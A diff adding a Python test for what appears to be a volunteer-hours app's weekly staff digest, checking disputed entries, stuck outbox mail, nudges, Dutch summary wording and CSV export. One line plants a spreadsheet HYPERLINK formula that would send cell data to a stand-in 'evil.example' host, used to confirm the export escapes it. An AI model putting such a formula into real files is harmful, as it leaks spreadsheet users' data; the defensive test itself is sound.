@@ -464,3 +464,44 @@ async def test_the_monday_tick_queues_last_weeks_digests_once(seeded: Seeded) ->
         assert await weekly_digest_tick(tx, CONFIG, RUN_AT) == 0
     weeks = await seeded.rows("SELECT DISTINCT week FROM digests_sent")
     assert weeks == [{"week": WEEK}]
+
+
+async def test_disputes_stuck_mail_nudges_and_units_are_in_the_digest(seeded: Seeded) -> None:
+    """The issue's complaints: the disputed entry listed nowhere, figures without unit, a
+    provider mail unsent for days counted as no problem, a name that runs in Excel."""
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
+    async with seeded.db.transaction() as tx:
+        await hours.set_note(tx, seeded.entries["bea_sunday"], "logger", "I was there", at(29, 23))
+        # Queued on Thursday for Carl and never sent: stuck. One queued Sunday night is not yet.
+        for key, when in (("stuck", at(26)), ("fresh", at(29, 20))):
+            await outbox.enqueue(tx, key=key, person_id=seeded.people["carl"].id,
+                                 channel="email", address="carl@mail.example",
+                                 purpose="confirm_request", payload="[]", now=when)  # fmt: skip
+        omar = seeded.people["omar"]
+        await tx.execute(
+            "INSERT INTO nudges (person_id, network_id, staff_email, sent_at) VALUES (?, ?, ?, ?)",
+            (omar.id, omar.network_id, WESTHOEK_STAFF, iso(at(27))),
+        )
+        await tx.execute("UPDATE people SET display_name = ? WHERE id = ?",
+                         (evil, seeded.people["bea"].id))  # fmt: skip
+    figures = await seeded.figures()
+    [dispute] = figures.disputes
+    assert dispute["id"] == seeded.entries["bea_sunday"] and dispute["logger_note"] == "I was there"
+    assert [s["purpose"] for s in figures.stuck] == ["confirm_request"]
+    assert [name for name, _ in figures.nudged] == ["Omar"]
+    assert (await seeded.figures("Gent")).disputes == []  # Gent's staff never see Bea's
+
+    from handlers.staff.digest_render import digest_replies
+
+    replies = digest_replies(figures, CONFIG)
+    summary = replies[0].text
+    assert "⏱️ Geregistreerde uren: 4 u bevestigd, 3,5 u in afwachting, 1 u betwist" in summary
+    assert "Actief deze week: 3 personen" in summary
+    assert "na 24 uur nog niet verstuurd: 1 bericht" in summary and "mislukt: 1 bericht" in summary
+    assert "duwtje gestuurd: 1 persoon" in summary
+    listed = "\n".join(r.text for r in replies)
+    assert f"code G{dispute['id']}" in listed and "I was there" in listed
+    assert "niet verstuurd sinds" in listed
+    [table] = [r.document for r in replies if r.document and r.document.mime == "text/csv"]
+    rows = list(csv.reader(io.StringIO(table.content.decode("utf-8-sig")), delimiter=";"))
+    assert ["'" + evil] == [row[1] for row in rows if "HYPERLINK" in row[1]]
